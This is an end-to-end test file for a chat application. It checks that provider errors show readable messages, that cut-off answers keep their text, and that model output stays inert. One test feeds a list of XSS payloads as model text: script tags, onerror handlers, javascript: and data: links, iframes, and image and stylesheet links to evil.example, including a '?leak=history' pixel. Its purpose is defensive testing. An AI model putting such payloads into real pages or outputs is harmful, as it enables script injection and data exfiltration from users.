// Provider failures are shown in words; model output stays inert.
import { sized } from "@/test/chaos/trial";
import type { Script } from "@/test/provider";
import { expect, foreignRequests, test } from "./journey.ts";

const canary = "sk-canary-9f3b";

test("I22: a rejected API key shows a message with Retry and leaks nothing", async ({ page, chat, provider, key }) => {
  await provider.answers(
    [
      {
        answer: 401,
        body: { error: { message: `Incorrect API key: ${canary}`, type: "auth", code: "invalid_api_key" } },
      },
    ],
    [{ tokens: "Now it works." }, { finish: "stop" }],
  );
  await chat.signInAsGuest();
  await chat.ask(`What about ${key}?`);
  await chat.expectStatus("failed");
  const alert = chat.answer.getByRole("alert");
  await expect(alert).toContainText(/\w+ \w+/);

  const chatId = await chat.chatId();
  const secrets = [canary, provider.host];
  for (const secret of secrets) {
    expect(await page.content()).not.toContain(secret);
    const stored = await page.request.get(`/api/chats/${chatId}/messages`);
    expect(await stored.text()).not.toContain(secret);
  }
  await page.reload();
  await chat.expectStatus("failed");
  await expect(alert).toContainText(/\w+ \w+/);
  for (const secret of secrets) expect(await page.content()).not.toContain(secret);

  await chat.answer.getByRole("button", { name: "Retry" }).click();
  await expect(chat.text).toHaveText("Now it works.");
  await chat.expectStatus("complete");
});

test("I2 I6: an answer cut off mid-stream keeps its text and says so", async ({ page, chat, provider, key }) => {
  await provider.answers([{ tokens: "Half of the" }, { gate: "cut" }, { cut: true }]);
  await chat.signInAsGuest();
  await chat.ask(`Tell me of ${key}`);
  await expect(chat.text).toHaveText("Half of the");
  await provider.open("cut");
  await expect(chat.answer.getByRole("button", { name: "Retry" })).toBeVisible();
  await expect(chat.text).toHaveText("Half of the");
  await chat.expectStatus("failed");

  await page.reload();
  await expect(chat.text).toHaveText("Half of the");
  await chat.expectStatus("failed");
});

test("I6: an answer that the provider ends early is marked interrupted, never complete", async ({
  chat,
  provider,
  key,
}) => {
  await provider.answers([{ tokens: "And then" }]);
  await chat.signInAsGuest();
  await chat.ask(`Go on about ${key}`);
  await chat.expectStatus("interrupted");
  await expect(chat.text).toHaveText("And then");
  await expect(chat.answer.getByText("Interrupted", { exact: true })).toBeVisible();
  await expect(chat.answer.getByRole("button", { name: "Retry" })).toBeVisible();
});

test("I21: scripts, images and frames in a model's text run nothing and load nothing", async ({
  page,
  context,
  chat,
  provider,
  key,
  baseURL,
}) => {
  const evil = "https://evil.example";
  const text = [
    "Before the payload.",
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(2)">',
    `<img src="${evil}/html.png">`,
    `![pixel](${evil}/markdown.png?leak=history)`,
    `![pixel][ref]\n\n[ref]: ${evil}/reference.png`,
    "[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)",
    `<iframe src="${evil}/frame"></iframe><svg onload="alert(5)"></svg><style>@import url(${evil}/style.css);</style>`,
    `<link rel="stylesheet" href="${evil}/link.css"><form action="${evil}/form"><button>Send it</button></form>`,
    "```mermaid\ngraph TD; A-->B;\n```",
    "After the payload.",
  ].join("\n\n");
  // In full, each character is drawn before the next is sent, so that every prefix of the text is
  // rendered once.
  const gates = sized(false, true);
  const characters = Array.from(text);
  const script: Script = characters.flatMap((character, index) => [
    { text: character },
    ...(gates ? [{ gate: `behind ${index}` }] : []),
  ]);
  await provider.answers([...script, { finish: "stop" }]);

  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    return dialog.dismiss();
  });
  const foreign = foreignRequests(context, new URL(baseURL ?? "").origin);

  await chat.signInAsGuest();
  await chat.ask(`Show me ${key}`);
  if (gates) {
    test.setTimeout(300_000);
    for (const index of characters.keys()) {
      await provider.reached(`behind ${index}`);
      // Longer than the page's redraw interval.
      await page.waitForTimeout(75);
      await provider.open(`behind ${index}`);
    }
  }
  await chat.expectStatus("complete");
  for (const visit of ["live", "after a reload"]) {
    await expect(chat.text, visit).toContainText("Before the payload.");
    await expect(chat.text, visit).toContainText("After the payload.");
    await expect(chat.text.locator("script, iframe, form, style, link, svg[onload], [onerror]"), visit).toHaveCount(0);
    await expect(chat.text.locator(`[src^="${evil}"], a[href^="javascript:"], a[href^="data:"]`), visit).toHaveCount(0);
    await page.reload();
  }
  expect(dialogs).toBe(0);
  expect(foreign).toEqual([]);
});
